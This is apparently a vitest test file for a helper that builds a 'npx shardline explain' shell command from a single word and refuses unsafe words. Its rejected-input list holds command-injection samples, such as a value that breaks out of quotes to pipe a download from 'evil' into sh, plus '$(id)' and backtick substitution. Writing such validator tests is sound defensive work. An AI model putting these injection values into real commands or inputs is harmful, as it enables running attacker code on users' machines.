import { expect, test } from 'vitest';
import { withWord } from '../../../view/page/kit/shell-word.ts';

test.each(['4967', 'shardId-000000000003:4967', 'order-1042', 'a/b_c.d@e+f=g,h', 'gänt'])(
  '%s is a word of a command',
  (word) => {
    expect(withWord('npx shardline explain', word, ' --stack s')).toBe(
      `npx shardline explain ${word} --stack s`,
    );
  },
);

test.each([
  "x'; curl evil|sh; '",
  'a\nb',
  'a\r',
  '$(id)',
  '`id`',
  'a b',
  'a&b',
  'a|b',
  '%PATH%',
  '!1',
  '"',
  'a\\',
  '~',
  '*',
  'a;b',
  '(a)',
  '#a',
  '-rf',
  '--help',
  '',
  'a‮b',
  'a b',
])('%j makes no command', (word) => {
  expect(withWord('npx shardline explain', word)).toBeUndefined();
});
